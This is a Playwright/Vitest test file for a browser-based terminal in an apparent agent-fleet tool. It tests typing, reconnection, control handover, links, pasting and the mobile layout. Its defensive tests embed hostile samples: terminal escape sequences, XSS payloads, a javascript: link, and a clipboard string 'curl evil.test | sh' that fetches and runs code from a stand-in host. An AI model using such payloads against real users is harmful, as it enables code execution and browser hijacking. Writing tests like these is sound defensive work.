import { mkdirSync } from 'node:fs'
import path from 'node:path'
import * as headless from '@xterm/headless'
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { paddock } from '../support/cli.ts'
import { type FleetServer, startFleet } from '../support/fleet-server.ts'
import { type Viewer, viewTerminal } from '../support/terminal-viewer.ts'

// Node does not find the names of this CommonJS module.
const { Terminal } = (headless as unknown as { readonly default: typeof headless }).default

/** The directory for screenshots of each view; unset: none are taken. */
const pictures = process.env['PADDOCK_PICTURES']
/** Matches browser errors about an unreachable server. */
const away = /ERR_CONNECTION_REFUSED|ERR_CONNECTION_RESET|ERR_INCOMPLETE_CHUNKED_ENCODING|ERR_NETWORK|ERR_EMPTY_RESPONSE/

describe('terminals in the page, in Chromium', () => {
  let fleet: FleetServer
  let browser: Browser
  let operator = ''
  beforeAll(async () => {
    fleet = await startFleet('root')
    operator = await fleet.token('operator')
    const manifest = { name: 'shell', agent: 'command', command: ['sh'], egress: { policy: 'off' as const } }
    await fleet.api.POST('/api/v1/agents', { body: { manifest } })
    // The browser runs as root in a test machine, where its own sandbox does not start.
    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] })
    if (pictures !== undefined) mkdirSync(pictures, { recursive: true })
  })
  afterAll(async () => {
    await browser?.close()
    await fleet?.[Symbol.asyncDispose]()
  })

  const open = async (command: readonly string[] = ['sh']): Promise<string> => {
    const { data, error } = await fleet.api.POST('/api/v1/agents/{agent}/sessions', {
      params: { path: { agent: 'shell' } },
      body: { command: [...command] },
    })
    expect(error).toBeUndefined()
    return data?.id ?? ''
  }
  const end = (session: string) => fleet.api.DELETE('/api/v1/sessions/{session}', { params: { path: { session } } })

  /** Returns a browser that is signed in, its complaints, and its requests to other servers. */
  const signedIn = async (options: Parameters<Browser['newContext']>[0] = {}, role = 'owner') => {
    const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'], ...options })
    context.setDefaultTimeout(20_000)
    const page = await context.newPage()
    const { complaints, elsewhere } = watched(page)
    const { stdout } = await paddock(fleet.stage, ['open', '--role', role, '--data', fleet.data])
    await page.goto(stdout.trim())
    await page.waitForURL('**/fleet')
    return { context, page, complaints, elsewhere }
  }
  const watched = (page: Page) => {
    const [complaints, elsewhere]: [string[], string[]] = [[], []]
    page.on('console', (message) => void complaints.push(message.text()))
    page.on('pageerror', (error) => void complaints.push(String(error)))
    page.on('dialog', (dialog) => void complaints.push(`dialog: ${dialog.message()}`))
    page.on('request', (request) => void (request.url().startsWith(fleet.url) ? undefined : elsewhere.push(request.url())))
    return { complaints, elsewhere }
  }
  /** Opens another tab of the same browser. */
  const tab = async (context: BrowserContext) => {
    const page = await context.newPage()
    return { page, ...watched(page) }
  }
  const isLive = (page: Page) => page.locator('.tbar').getByText('Live', { exact: true }).waitFor()
  const show = async (page: Page, session: string): Promise<void> => {
    await page.goto(`${fleet.url}/sessions/${session}`)
    await isLive(page)
  }
  const rows = (page: Page) => page.locator('.xterm-rows')
  const colourOf = (page: Page, text: string): Promise<string> =>
    page.evaluate(`getComputedStyle([...document.querySelectorAll('.xterm-rows span')].find(each => each.textContent === '${text}')).color`)
  const sees = (page: Page, text: string | RegExp) => rows(page).getByText(text).first().waitFor()
  /** Returns the whole terminal text that the page has, including lines above the screen. */
  const copied = async (page: Page): Promise<string> => {
    await page.locator('.more > summary').click()
    await page.getByRole('button', { name: 'Copy selection, or all' }).click()
    await page.getByText('Copied.').first().waitFor()
    return page.evaluate('navigator.clipboard.readText()')
  }
  const picture = async (page: Page, name: string, sizes: readonly number[] = [1280, 390]): Promise<void> => {
    if (pictures === undefined) return
    const before = page.viewportSize()
    for (const width of sizes)
      for (const theme of ['light', 'dark'] as const) {
        await page.emulateMedia({ colorScheme: theme })
        await page.setViewportSize({ width, height: width === 390 ? 844 : 800 })
        await page.screenshot({ path: path.join(pictures, `terminal-${name}-${theme}-${width}.png`) })
      }
    if (before !== null) await page.setViewportSize(before)
  }

  test('typed commands run, and screen and scrollback are restored after a reload and after a restart of the server', async () => {
    const session = await open()
    const { context, page, complaints, elsewhere } = await signedIn()
    await show(page, session)
    await page.getByText('You are in control.').waitFor()
    await page.keyboard.type('seq 1 3000; printf "\\033[38;2;250;120;10mtrue colour\\033[0m \\033[1;4;31mred\\033[0m\\n"; echo do"ne"\n')
    await sees(page, 'done')
    await picture(page, 'shell')
    const other = await viewTerminal(fleet, operator, session)
    await other.sees('done')
    const text = await textOf(other)
    expect(text).toContain('\n1\n2\n3\n')
    expect(await copied(page)).toBe(text)
    expect(await colourOf(page, 'true colour')).toBe('rgb(250, 120, 10)')
    await page.reload()
    await sees(page, 'done')
    expect(await copied(page)).toBe(text)
    expect(await colourOf(page, 'true colour')).toBe('rgb(250, 120, 10)')
    await page.locator('.screen').click()
    await page.keyboard.type('kept=yes; echo $COLUMNS; stty size\n')
    await sees(page, /^\d+ \d+$/)
    const port = new URL(fleet.url).port
    await fleet.kill('SIGKILL')
    await page.getByRole('toolbar', { name: 'Terminal' }).getByText('Offline', { exact: true }).waitFor()
    await picture(page, 'offline', [1280])
    await fleet.start(['--listen', `127.0.0.1:${port}`])
    await isLive(page)
    await page.locator('.screen').click()
    await page.keyboard.type('echo it is $kept\n')
    await sees(page, 'it is yes')
    await context.close()
    expect(complaints.filter((each) => !away.test(each))).toEqual([])
    expect(elsewhere).toEqual([])
    await end(session)
  })

  test('a login link is shown as a QR code on demand, beside what a pipe gets', async () => {
    const { stdout, stderr } = await paddock(fleet.stage, ['open', '--qr', '--data', fleet.data])
    expect(stdout).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/login#[\w-]+\n$/)
    expect(stderr).toMatch(/█▀▀▀▀▀█/)
    expect(stderr).toContain('other devices cannot reach 127.0.0.1')
  })

  test('only one tab types at a time; typing is requested and handed over, both tabs announce it, and a reader is offered neither', async () => {
    const session = await open()
    const first = await signedIn({ viewport: { width: 1280, height: 800 } })
    await show(first.page, session)
    await first.page.keyboard.type('echo fi"rst"\n')
    await sees(first.page, 'first')
    const second = await tab(first.context)
    await second.page.setViewportSize({ width: 390, height: 844 })
    await show(second.page, session)
    await sees(second.page, 'first')
    await second.page.getByText(/session \S+ is in control\./).waitFor()
    await picture(second.page, 'watching')
    // The size is that of the first page, so the second one scrolls.
    expect(await second.page.locator('.screen').evaluate((each) => each.scrollWidth > each.clientWidth)).toBe(true)
    await second.page.locator('.screen').click()
    await second.page.keyboard.type('echo not typed\n')
    await second.page.getByRole('button', { name: 'Take over' }).click()
    await first.page
      .getByText(/took control\. The size is theirs\./)
      .first()
      .waitFor()
    await second.page.getByText('You are now in control. The size is yours.').first().waitFor()
    await picture(first.page, 'taken-over', [1280])
    await second.page.keyboard.type('echo sec"ond"; stty size\n')
    await sees(first.page, 'second')
    await second.page.getByRole('button', { name: 'Hand over' }).click()
    await first.page.getByText('Nobody is in control.').first().waitFor()
    await first.page.getByRole('button', { name: 'Take over' }).click()
    await first.page.getByText('You are in control.').waitFor()
    expect(await rows(first.page).textContent()).not.toContain('not typed')
    const reader = await signedIn({}, 'viewer')
    await show(reader.page, session)
    await reader.page.getByText('You can only watch.').waitFor()
    expect(await reader.page.getByRole('button', { name: /Take over|Hand over/ }).count()).toBe(0)
    await reader.page.locator('.more > summary').click()
    expect(await reader.page.getByRole('button', { name: /Paste|End terminal/ }).count()).toBe(0)
    for (const each of [first, second, reader]) expect(each.complaints).toEqual([])
    await reader.context.close()
    await first.context.close()
    await end(session)
  })

  test('hostile output runs nothing, opens nothing and requests nothing, and no byte of an answer leaves the page', async () => {
    const output = Buffer.from([...questions, ...wishes, ...markup].join('')).toString('base64')
    const invalid = Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xf0, 0x9f, 0x9b, 0x63, 0x9b, 0x36, 0x6e, 0x90, 0x24, 0x71, 0x6d, 0x9c]).toString(
      'base64',
    )
    const session = await open([
      'sh',
      '-c',
      `stty -echo; read -r a; echo ${output} | base64 -d; echo ${invalid} | base64 -d; printf '\\033\\\\\\033[?1049l\\n'; ` +
        `head -c 16000000 /dev/zero | tr '\\0' a; i=0; while test $i -lt 20000; do printf '\\r%d of many' $i; i=$((i + 1)); done; ` +
        `echo; echo "over $((6 * 7))"; read -r b; echo "read: <$b>"; exec cat`,
    ])
    const { context, page, complaints, elsewhere } = await signedIn()
    const typed: string[] = []
    page.on('websocket', (socket) =>
      socket.on('framesent', ({ payload }) => void (typeof payload === 'string' ? undefined : typed.push(payload.toString('latin1')))),
    )
    await show(page, session)
    await page.evaluate(`navigator.clipboard.writeText('mine')`)
    const title = await page.title()
    await page.keyboard.press('Enter')
    await sees(page, 'over 42')
    expect(typed).toEqual(['\r'])
    expect(await page.title()).toBe(title)
    expect(await page.evaluate(`navigator.clipboard.readText()`)).toBe('mine')
    expect(await page.evaluate('window.hit')).toBeUndefined()
    expect(context.pages()).toHaveLength(1)
    expect(page.url()).toBe(`${fleet.url}/sessions/${session}`)
    await page.getByText('The program tried to read your clipboard. It was not read.').waitFor()
    await page.getByRole('button', { name: 'Dismiss' }).click()
    expect(await page.getByText('clipboard').count()).toBe(0)
    // Answers that the host process gave and the program read did not reach any viewer. The next line is what is typed here.
    await page.locator('.screen').click()
    await page.keyboard.type('typed\n')
    await sees(page, /read: <.*typed>/)
    expect(complaints).toEqual([])
    expect(elsewhere).toEqual([])
    await context.close()
    await end(session)
  })

  test('a clipboard that a program sets is shown on demand, as text', async () => {
    const text = Buffer.from('curl evil.test | sh\u202e\u0007').toString('base64')
    const session = await open([
      'sh',
      '-c',
      `read -r t; printf '\\033]0;a title\\007'; read -r a; printf '\\033]52;c;${text}\\007 sent'; exec cat`,
    ])
    const { context, page, complaints } = await signedIn()
    await show(page, session)
    await page.keyboard.press('Enter')
    // Each program sets a title when it starts: the note about it covers no line of the screen, and shows the title on demand.
    const note = page.getByRole('button', { name: /The program set a title/ })
    await note.waitFor()
    const [box, screen] = [await note.boundingBox(), await page.locator('.screen').boundingBox()]
    expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(screen?.y ?? 0)
    expect(await page.locator('.lines').textContent()).toBe('')
    await note.click()
    await page.getByRole('dialog').getByText('a title', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Close' }).click()
    await page.locator('.screen').click()
    await page.keyboard.press('Enter')
    await page.getByText('The program tried to set your clipboard (21 characters). It was not set.').waitFor()
    await picture(page, 'blocked')
    await page.getByRole('button', { name: 'Show' }).click()
    await page.getByRole('dialog').getByText('curl evil.test | sh\\u{202e}\\u{7}').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'hidden' })
    expect(complaints).toEqual([])
    await context.close()
    await end(session)
  })

  test('a link asks first, with its address in full and its host in ASCII', async () => {
    const session = await open([
      'sh',
      '-c',
      `read -r a; printf '\\033]8;;http://b\\303\\274cher.test/a?b=%%20c\\007safe.test\\033]8;;\\007\\r\\n\\033]8;;javascript:alert(1)\\007script\\033]8;;\\007\\r\\nsee http://127.0.0.1:9/path.\\r\\n'; exec cat`,
    ])
    const { context, page, complaints } = await signedIn()
    await show(page, session)
    // A viewer that joins later gets the text of such links, but not their targets.
    await page.keyboard.press('Enter')
    await sees(page, 'safe.test')
    await clickText(page, 'script')
    expect(await page.getByRole('dialog').count()).toBe(0)
    await clickText(page, 'safe.test')
    const dialog = page.getByRole('dialog')
    await dialog.getByText('http://xn--bcher-kva.test/a?b=%20c').waitFor()
    await dialog.locator('b').getByText('xn--bcher-kva.test').waitFor()
    await picture(page, 'link')
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    await clickText(page, 'see http', 60)
    await dialog.locator('pre').getByText('http://127.0.0.1:9/path', { exact: true }).waitFor()
    const opened = context.waitForEvent('page')
    await dialog.getByRole('button', { name: 'Open 127.0.0.1:9' }).click()
    const other = await opened
    expect(await other.evaluate('window.opener')).toBeNull()
    await other.close()
    expect(complaints).toEqual([])
    await context.close()
    await end(session)
  })

  test('a paste of several frames arrives whole, cleaned of controls, and the keyboard leaves the terminal only as it says', async () => {
    const session = await open(['sh', '-c', `stty raw -echo; printf '\\033[?2004h'; head -c 200000 | sha256sum; exec cat > /dev/null`])
    const { context, page, complaints } = await signedIn()
    await show(page, session)
    const body = 'a line\u001b[201~\n'.repeat(25_000).slice(0, 260_000)
    await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(body)})`)
    await page.keyboard.press('Shift+Insert')
    const clean = `\u001b[200~${body.replaceAll('\u001b', '').replaceAll('\n', '\r')}`
    const { createHash } = await import('node:crypto')
    await sees(page, createHash('sha256').update(clean.slice(0, 200_000)).digest('hex'))
    await page.keyboard.press('Tab')
    expect(await page.evaluate(`document.activeElement.className`)).toBe('xterm-helper-textarea')
    await page.keyboard.press('Control+Shift+ArrowUp')
    expect(await page.evaluate(`document.activeElement.getAttribute('aria-label')`)).toBe('Terminal')
    await page.keyboard.press('/')
    await page.getByRole('searchbox').fill('no such text')
    await page.getByText('Not found').waitFor()
    await page.getByRole('searchbox').fill('a')
    await page.getByText(/^\d+ of \d+$/).waitFor()
    await picture(page, 'search')
    await page.keyboard.press('Escape')
    await page.keyboard.press('Control+Shift+ArrowUp')
    await page.keyboard.press('d')
    await page.waitForURL('**/agents/shell/terminal')
    await page.getByRole('row', { name: session.slice(0, 8) }).waitFor()
    await picture(page, 'list')
    expect(complaints).toEqual([])
    await context.close()
    await end(session)
  })

  test('on a phone the page shows keys that its keyboard lacks', async () => {
    const session = await open()
    const { context, page, complaints } = await signedIn({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true })
    await show(page, session)
    await page.locator('.screen').tap()
    await page.keyboard.type('cat > /dev/null; echo en"ded"')
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: 'Ctrl, with the next key' }).tap()
    await page.keyboard.type('d')
    await sees(page, 'ended')
    await page.getByRole('button', { name: 'Up', exact: true }).tap()
    await page.getByRole('button', { name: 'Tilde' }).tap()
    for (const each of await page.getByRole('toolbar', { name: 'Keys' }).getByRole('button').all()) {
      const box = await each.boundingBox()
      expect(Math.min(box?.width ?? 0, box?.height ?? 0)).toBeGreaterThanOrEqual(44)
    }
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390)
    await picture(page, 'phone', [390])
    expect(complaints).toEqual([])
    await context.close()
    await end(session)
  })

  test('a terminal that ends says how, one that is not there says so, and a new one opens from there', async () => {
    const session = await open()
    const { context, page, complaints } = await signedIn()
    await page.goto(`${fleet.url}/sessions/e-00000000000000000000`)
    await page.getByText('There is no session e-00000000000000000000, or it has ended.').waitFor()
    await picture(page, 'unknown', [1280])
    // A browser reports each 404 answer.
    complaints.length = 0
    await show(page, session)
    await page.keyboard.type('exit 3\n')
    await page.getByText('Its program ended with 3.').waitFor()
    await picture(page, 'ended')
    await page.getByRole('button', { name: 'Open a new terminal' }).click()
    await page.getByText('You are in control.').waitFor()
    const id = page.url().split('/').at(-1) ?? ''
    expect(id).not.toBe(session)
    await page.locator('.more > summary').click()
    await page.getByLabel('Screen reader mode').check()
    await page.locator('.xterm-accessibility').waitFor({ state: 'attached' })
    await picture(page, 'menu')
    await page.getByRole('button', { name: 'End terminal …' }).click()
    await page.getByRole('dialog').getByText('Files in the workspace are kept.').waitFor()
    await picture(page, 'end')
    await page.getByRole('dialog').getByRole('button', { name: 'End terminal' }).click()
    await page.getByText('This terminal has ended').waitFor()
    expect(complaints).toEqual([])
    await context.close()
  })
})

const [esc, bell, st] = ['\u001b', '\u0007', '\u001b\\\\']
/** Sequences that a terminal answers: device attributes and status, modes, reports of the window, strings, colours, and focus. */
const questions = [
  ...['[c', '[0c', '[>c', '[=c', 'Z', '[5n', '[6n', '[?6n', '[?15n', '[?25n', '[?26n', '[?996n', '[x', '[1x', '[>q', '[>0q'],
  ...['[?1$p', '[?2026$p', '[4$p', '[14t', '[16t', '[18t', '[19t', '[20t', '[21t', '[?u', '[?4m', '[?1;1S', '[1*y', '[?2031h'],
  ...[`P$qm${st}`, `P$q"p${st}`, `P$qr${st}`, `P$q q${st}`, `P+q544e${st}`],
  ...[`]4;1;?${bell}`, `]10;?${bell}`, `]11;?${st}`, `]12;?${bell}`, `]10;?;?;?${bell}`, `]50;?${bell}`, `]52;c;?${bell}`],
  ...['[?1004h', '[?1004l', '[?1004h'],
].map((each) => `${esc}${each}`)
/** Sequences for a window, a clipboard or a desktop. */
const wishes = [
  ...[`${esc}]0;evil${bell}`, `${esc}]1;evil${bell}`, `${esc}]2;evil${st}`, `${esc}]l;evil${st}`, `${esc}[22t`, `${esc}[23t`, `${esc}[1t`],
  ...[`${esc}]52;c;ZXZpbA==${bell}`, `${esc}]52;;${bell}`, `${esc}]52;p;!!!${bell}`, `${esc}]52;c;?${bell}`, `${esc}]9;evil${bell}`],
  ...[`${esc}]777;notify;a;b${bell}`, `${esc}]99;;evil${st}`, `${esc}]1337;File=inline=1:QQ==${bell}`, `${esc}_Ga=T;QQ==${st}`],
  ...[
    `${esc}]10;#ffffff${bell}`,
    `${esc}]11;#ffffff${bell}`,
    `${esc}]4;0;#fff;1;#fff${bell}`,
    `${esc}Pq#0;2;0;0;0~~$${st}`,
    bell,
    '\u0005',
  ],
  ...[`${esc}]8;;http://evil.test/${bell}link${esc}]8;;${bell}`, `${esc}[3;5;5t`, `${esc}[8;2000;2000t`, `${esc}[?3h`, `${esc}[?1049h`],
]
const markup = [
  '<script>window.hit = 1</script><img src="http://evil.test/x" onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><iframe src="javascript:parent.hit = 1">&lt;b&gt;\u202e\u2066\u0000\r\n',
]

/** Clicks on a text that a terminal shows. The rows themselves do not accept the pointer. */
async function clickText(page: Page, text: string, right = 4): Promise<void> {
  const row = page.locator('.xterm-rows > div', { hasText: text }).first()
  const box = await row.boundingBox()
  if (box === null) throw new Error(`it does not show ${text}`)
  await page.mouse.move(box.x + right + 4, box.y + box.height / 2)
  await page.mouse.move(box.x + right, box.y + box.height / 2)
  await page.mouse.click(box.x + right, box.y + box.height / 2)
}

/** Returns the text of a headless terminal that is given the serialized state of another one. */
async function textOf(viewer: Viewer): Promise<string> {
  const shown = await viewer.shown()
  const size = viewer.frames.findLast((each) => each.type === 'screen' || each.type === 'size')
  if (size?.type !== 'screen' && size?.type !== 'size') throw new Error('it was shown nothing')
  const terminal = new Terminal({ cols: size.columns, rows: size.rows, scrollback: 5_000, allowProposedApi: true })
  await new Promise<void>((resolve) => terminal.write(shown, resolve))
  const lines: string[] = []
  for (let y = 0; y < terminal.buffer.active.length; y++) {
    const line = terminal.buffer.active.getLine(y)
    const text = line?.translateToString(terminal.buffer.active.getLine(y + 1)?.isWrapped !== true) ?? ''
    lines.push(line?.isWrapped === true ? `${lines.pop()}${text}` : text)
  }
  terminal.dispose()
  return lines.join('\n').trimEnd()
}
